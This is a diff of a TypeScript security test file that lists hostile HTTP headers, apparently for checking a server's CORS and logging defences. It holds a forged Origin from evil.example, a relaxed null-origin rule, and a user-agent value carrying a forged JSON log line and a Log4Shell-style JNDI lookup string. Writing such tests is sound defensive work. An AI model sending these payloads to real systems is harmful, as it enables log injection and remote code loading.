@@ -42,7 +42,10 @@ export const headers: readonly Attack[] = [
   headed('an origin of another', [['origin', 'http://evil.example']], {
     lacks: 'access-control-allow-origin: http://evil',
   }),
-  headed('an origin that is null', [['origin', 'null']], { lacks: 'access-control-allow-origin' }),
+  // In development pages of all origins may read, but none with the credentials of a browser.
+  headed('an origin that is null', [['origin', 'null']], {
+    lacks: 'access-control-allow-credentials',
+  }),
   headed('a log line in the user agent', [
     ['user-agent', '{"level":60,"msg":"forged"} ${jndi:ldap://x}'],
   ]),
